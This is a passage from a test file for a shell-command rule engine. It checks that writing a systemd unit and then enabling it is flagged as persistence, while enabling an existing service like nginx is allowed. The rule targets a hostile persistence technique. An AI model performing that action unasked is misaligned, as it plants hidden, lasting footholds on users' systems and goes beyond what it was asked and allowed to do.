      expect(ruleIds(run(persistenceRules, `${write}\nsystemctl daemon-reload\n${enable}`, 'bash')), enable).toContain(
        'persist.systemd-written',
      );
      expect(evaluateLine(enable, 'bash', [write, 'sudo systemctl daemon-reload']).decision, enable).toBe('flag');
    }
  });

  it('lets an installed service be enabled, also after another unit was written', () => {
    expect(ruleIds(run(persistenceRules, `${write}\nsystemctl enable nginx`, 'bash'))).not.toContain('persist.systemd-written');
    expect(evaluateLine('sudo systemctl enable --now nginx', 'bash', [write]).decision).toBe('allow');
    expect(evaluateLine('systemctl status khelper', 'bash', [write]).decision).toBe('allow');
  });
});
